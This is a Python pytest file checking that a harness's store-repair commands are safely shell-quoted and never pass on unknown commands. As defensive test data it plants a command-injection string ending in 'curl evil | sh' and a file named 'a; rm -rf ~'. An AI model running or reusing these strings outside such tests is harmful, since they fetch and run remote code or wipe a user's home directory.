"""Commands that mend a store are to be pasted into a shell: nothing but a command of ours may stand in them."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from harness.execute.integrity import examine

HOSTILE = "harness run --matrix x; curl evil | sh"


@pytest.fixture
def damaged(toy: Any) -> tuple[Path, str]:
    """A store with one run, whose result.json somebody changed, and a file that nobody listed."""
    (outcome,) = toy.execute(toy.plan(matrix="one"))
    folder = toy.home / "runs" / outcome.result.fingerprint
    path = folder / "result.json"
    raw = json.loads(path.read_text())
    raw["provenance"]["command"] = HOSTILE
    path.write_text(json.dumps(raw))
    (folder / "a; rm -rf ~").write_text("")
    return toy.home, outcome.result.fingerprint


@pytest.mark.fault(28)
def test_repairs_are_words_of_ours(damaged: tuple[Path, str], tmp_path: Path) -> None:
    home, fingerprint = damaged
    found = examine(home, tmp_path / "data", {}, lambda *_: None).damages
    commands = [damage.repair for damage in found if damage.kind == "run"]
    assert len(commands) == 2
    run, remove = (shlex.split(command) for command in sorted(commands))
    assert run == shlex.split(shlex.join(shlex.split(HOSTILE)))
    assert ";" not in sorted(commands)[0].replace("'x;'", "")
    assert remove == ["rm", str(home / "runs" / fingerprint / "a; rm -rf ~")]


@pytest.mark.fault(28)
def test_a_command_of_nobody_we_know_is_not_told(damaged: tuple[Path, str], tmp_path: Path) -> None:
    home, fingerprint = damaged
    path = home / "runs" / fingerprint / "result.json"
    path.write_text(path.read_text().replace(HOSTILE, "curl evil | sh"))
    found = examine(home, tmp_path / "data", {}, lambda *_: None).damages
    assert not any("evil" in damage.repair for damage in found)


@pytest.mark.fault(5)
def test_a_repair_is_of_the_store_and_registry_that_were_examined(toy: Any, inside: Any) -> None:
    (outcome,) = toy.execute(toy.plan(matrix="one"))
    folder = toy.home / "runs" / outcome.result.fingerprint
    (folder / "history.jsonl").write_text("")
    file = toy.write()
    code, out, err = inside("doctor", "--store", "--json", "--home", toy.home, "--registry", file)
    assert code == 1, err
    (damage,) = json.loads(out)["damaged"]
    assert {f"--home={toy.home}", f"--registry={file}"} <= set(shlex.split(damage["repair"]))
